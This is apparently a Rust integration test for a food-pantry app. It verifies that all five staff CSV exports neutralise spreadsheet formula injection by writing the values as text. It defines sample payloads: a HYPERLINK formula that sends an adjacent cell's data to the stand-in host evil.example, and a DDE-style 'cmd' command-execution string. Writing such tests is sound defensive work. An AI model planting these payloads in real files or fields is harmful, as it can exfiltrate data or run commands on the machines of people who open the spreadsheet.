//! Every CSV staff download (stock, pick list, monthly report, TEFAP records, change log) writes a
//! cell a spreadsheet would run as a formula as text, on both databases: the names in them are
//! typed by shoppers (the TEFAP recipient) and staff (items, pantries), so one of them could be
//! `=HYPERLINK(...)` carrying the next cell's data away when the file is opened.
use crate::{
    api_orders::{MAIN, fresh, pantry, pickup, place, times},
    api_pick_list::page,
    api_staff::token_of,
    api_support::TestApp,
    on_both,
    staff_reports::{answer_tefap, exec, tefap_stock},
};
use orderahead::db::seed::{DEMO_ADMIN_EMAIL, DEMO_STAFF_EMAIL};
use serde_json::json;

on_both!(every_csv_export_writes_a_formula_as_text);

const RECIPIENT: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")";
const PRODUCT: &str = "+cmd|' /C calc'!A0";
const PLACE: &str = "@SUM(1+1)";

fn cells(csv: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// The file holds `name` behind an apostrophe, and no cell a spreadsheet would run.
fn assert_guarded(file: &str, csv: &str, name: &str) {
    let cells = cells(csv);
    assert!(cells.contains(&format!("'{name}")), "{file} holds '{name}:\n{csv}");
    for cell in &cells {
        let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
        assert!(!runs, "{file} has a formula cell {cell:?}:\n{csv}");
    }
}

async fn every_csv_export_writes_a_formula_as_text(t: &TestApp) {
    let main = pantry(t, MAIN).await;
    let shopper = fresh(t).await;
    answer_tefap(t, &shopper, [0, 1, 0], false).await;
    let item = tefap_stock(t, main, 20).await;
    exec(
        t,
        "UPDATE pantry_items SET name = ? WHERE id = (SELECT pantry_item_id FROM inventory_items WHERE id = ?)",
        vec![PRODUCT.into(), item.into()],
    )
    .await;
    exec(t, "UPDATE pantry_locations SET label = ? WHERE id = ?", vec![PLACE.into(), main.into()]).await;
    let time = times(t, main, 1).await[0];
    let order = place(t, &shopper, pickup(main, time, &[(item, 2)])).await;
    // The name as the shopper signed up with it, in the record the order wrote.
    exec(t, "UPDATE tefap_records SET recipient_name = ? WHERE order_id = ?", vec![RECIPIENT.into(), order.into()])
        .await;
    let day = t.get(&format!("/api/v1/orders/{order}"), Some(&shopper.token)).await.value()["pantryLocationPickupTime"]
        ["pickupDay"]
        .as_str()
        .unwrap()
        .to_owned();
    let staff = token_of(t, DEMO_STAFF_EMAIL).await;
    let admin = token_of(t, DEMO_ADMIN_EMAIL).await;
    // A change staff make is logged with the item's name.
    let hidden = t.put(&format!("/api/v1/staff/items/{item}/active"), Some(&staff), json!({ "active": false })).await;
    assert_eq!(hidden.status, 200, "{}", hidden.body);
    let month = t.state.clock.now().with_timezone(&chrono_tz::America::New_York).format("%Y-%m").to_string();

    for (file, path, token, name) in [
        ("stock", format!("/staff/stock.csv?pantry={main}"), &staff, PRODUCT),
        ("pick list", format!("/staff/pick-list.csv?pantry={main}&date={day}"), &staff, PRODUCT),
        ("report", format!("/staff/reports.csv?month={month}"), &admin, PLACE),
        ("TEFAP", format!("/staff/tefap.csv?pantry={main}&month={month}"), &staff, RECIPIENT),
        ("change log", "/staff/audit.csv?action=item.hide".to_owned(), &admin, PLACE),
    ] {
        let (status, _, csv) = page(t, &path, Some(token)).await;
        assert_eq!(status, 200, "{file}: {csv}");
        assert_guarded(file, &csv, name);
    }
}
